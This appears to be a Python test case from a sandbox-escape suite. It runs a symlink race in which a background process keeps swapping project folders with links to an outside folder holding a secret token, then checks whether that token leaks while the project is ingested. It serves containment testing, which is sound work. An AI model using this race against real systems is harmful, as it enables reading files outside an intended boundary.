"""Folders and links that lead out, changing places all the time while the project is taken in"""

import os
import subprocess
import sys
from pathlib import Path

from attack import Host, Setup
from attack import Trick as Base

PAIRS = 400
SWAPPER = """
import ctypes, sys
libc = ctypes.CDLL(None)
print("swapping", flush=True)
while True:
    for number in range(int(sys.argv[2])):
        # Of folders relative to here; 2 is RENAME_EXCHANGE.
        libc.renameat2(-100, b"real-%d" % number, -100, b"link-%d" % number, 2)
"""


class Trick(Base):
    area = "files"

    def prepare(self, host: Host) -> Setup:
        host.file("outside/f", host.token)
        for number in range(PAIRS):
            host.file(f"project/real-{number}/f", "honest", 0o644)
            (host.folder / f"project/link-{number}").symlink_to("../outside")
        project = host.dir("project")
        command = [sys.executable, "-c", SWAPPER, host.marker, str(PAIRS)]
        swapper = subprocess.Popen(command, cwd=project, stdout=subprocess.PIPE)
        assert swapper.stdout and swapper.stdout.readline()
        host.finally_(lambda: (swapper.kill(), swapper.communicate()))
        setup = Setup()
        setup.project = project
        return setup

    def inside(self) -> None:
        for folder, _, names in os.walk("."):
            for path in (Path(folder, name) for name in names):
                if not path.is_symlink() and path.name == "f":
                    print(path, path.read_text(), flush=True)
        print("looked", flush=True)

    def escaped(self, host: Host, ran) -> str | None:
        assert "looked" in ran.output, ran
        return super().escaped(host, ran)
